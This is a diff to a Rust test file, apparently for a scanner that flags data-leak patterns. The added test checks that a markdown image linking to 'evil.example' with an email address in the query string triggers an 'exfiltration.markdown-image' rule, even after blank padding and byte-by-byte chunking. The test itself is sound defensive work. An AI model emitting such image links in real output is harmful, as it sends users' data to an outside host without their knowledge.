@@ -371,6 +371,26 @@ fn an_endless_address_is_data() {
 }
 
 #[test]
+fn a_long_address_behind_blanks_and_a_long_label_is_read_whole() {
+    let catalogue = catalogue();
+    for label in [0, 255, 300] {
+        let label = "l".repeat(label);
+        let text = format!(
+            "![{label}](    <https://evil.example/{}?to=bob@corp.example>)",
+            "a".repeat(600)
+        );
+        let whole = scan_chunks(&catalogue, &[text.as_bytes()]);
+        let image = catalogue.index_of("exfiltration.markdown-image");
+        assert!(
+            whole.0.iter().any(|finding| Some(finding.rule) == image),
+            "label of {}",
+            label.len()
+        );
+        assert!(scan_chunks(&catalogue, &chunking::fixed(text.as_bytes(), 1)) == whole);
+    }
+}
+
+#[test]
 fn confidence_follows_the_evidence() {
     let catalogue = catalogue();
     let cases = [
